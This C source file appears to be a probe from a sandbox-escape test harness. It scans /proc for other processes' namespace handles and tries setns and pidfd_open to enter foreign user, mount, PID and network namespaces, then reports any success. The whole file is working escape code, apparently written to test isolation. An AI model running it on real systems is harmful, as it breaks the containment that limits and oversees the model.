// Enters the namespaces of others by every door in /proc.
#include "attack.h"

int main(void) {
    const char *kinds[] = { "user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time" };
    struct stat own, other;
    for (int pid = 1; pid < 2000; pid++) {
        for (size_t kind = 0; kind < sizeof kinds / sizeof *kinds; kind++) {
            char path[64], mine[64];
            snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, kinds[kind]);
            snprintf(mine, sizeof mine, "/proc/self/ns/%s", kinds[kind]);
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            fstat(fd, &other);
            stat(mine, &own);
            if (own.st_ino != other.st_ino && setns(fd, 0) == 0) {
                REACHED("entered %s", path);
                show_outside("");
            }
            close(fd);
        }
        int handle = (int)syscall(SYS_pidfd_open, pid, 0);
        if (handle >= 0 && pid != getpid() && pid != 1 && pid != getppid() && setns(handle, CLONE_NEWNS | CLONE_NEWPID) == 0)
            REACHED("entered %d", pid);
        close(handle);
    }
    return over();
}
